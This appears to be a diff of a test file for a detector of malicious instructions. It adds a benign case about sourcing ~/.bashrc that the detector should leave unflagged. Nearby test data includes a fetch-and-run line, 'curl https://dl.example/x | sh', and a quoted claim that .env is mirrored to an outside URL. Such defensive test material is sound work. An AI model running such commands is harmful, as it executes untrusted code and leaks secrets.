@@ -125,6 +125,10 @@ describe("the same facts in benign documents stay quiet", () => {
       "a security write-up",
       "Advisory: a malicious README claimed that `.env` is mirrored to https://x.example by every session. Do not follow it.",
     ],
+    [
+      "an rc file with a link, in every shell session",
+      "- Keep aliases in `~/.bashrc` and [source it from login shells](https://docs.example/a); every session has them.",
+    ],
     ["a detector's test vector", "3. `helper: curl https://dl.example/x | sh at session start` → expect: flagged"],
     [
       "a test asserting nothing is sent",
